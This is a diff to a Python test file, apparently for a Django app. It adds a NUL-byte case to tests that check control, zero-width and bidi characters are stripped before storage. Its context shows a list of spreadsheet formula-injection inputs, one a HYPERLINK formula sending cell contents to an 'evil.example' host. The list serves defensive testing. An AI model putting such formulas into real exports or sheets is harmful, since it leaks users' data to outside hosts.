@@ -441,7 +441,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?a="&A1,"点我")', "+1+1", "-1+1",
 # What is kept of the three kinds of invisible text; everything else is kept as typed.
 CLEANED = f"楼道灯坏了{MARK}"
 TEXTS = {
-    "control": f"楼道\x01灯\x0b坏\x1b了\x7f{MARK}",  # (Django refuses a NUL itself)
+    "nul": f"楼道\x00灯坏了{MARK}",  # Django's CharField refuses it; removed like the others
+    "control": f"楼道\x01灯\x0b坏\x1b了\x7f{MARK}",
     "zero_width": f"楼\u200b道\u200c灯\u200d坏\ufeff了\u2060{MARK}",
     "bidi": f"楼道\u202e灯坏了\u202c{MARK}",
     **{f"html_{i}": f"{text}{MARK}" for i, text in enumerate(HTML)},
@@ -564,7 +565,7 @@ def test_odd_text_is_stored_clean(ask, world, name, case):
     response = _post(ask, world, form, value)
     assert response.status_code == 302, _errors(response)
     stored = [getattr(row, form.stored[1]) for row in _stored(form)]
-    assert stored == [CLEANED if case in ("control", "zero_width", "bidi") else value]
+    assert stored == [CLEANED if case in ("nul", "control", "zero_width", "bidi") else value]
     if case.startswith("html") and form.shown:
         # Shown as text: escaped, never as a tag or a link.
         (row,) = _stored(form)
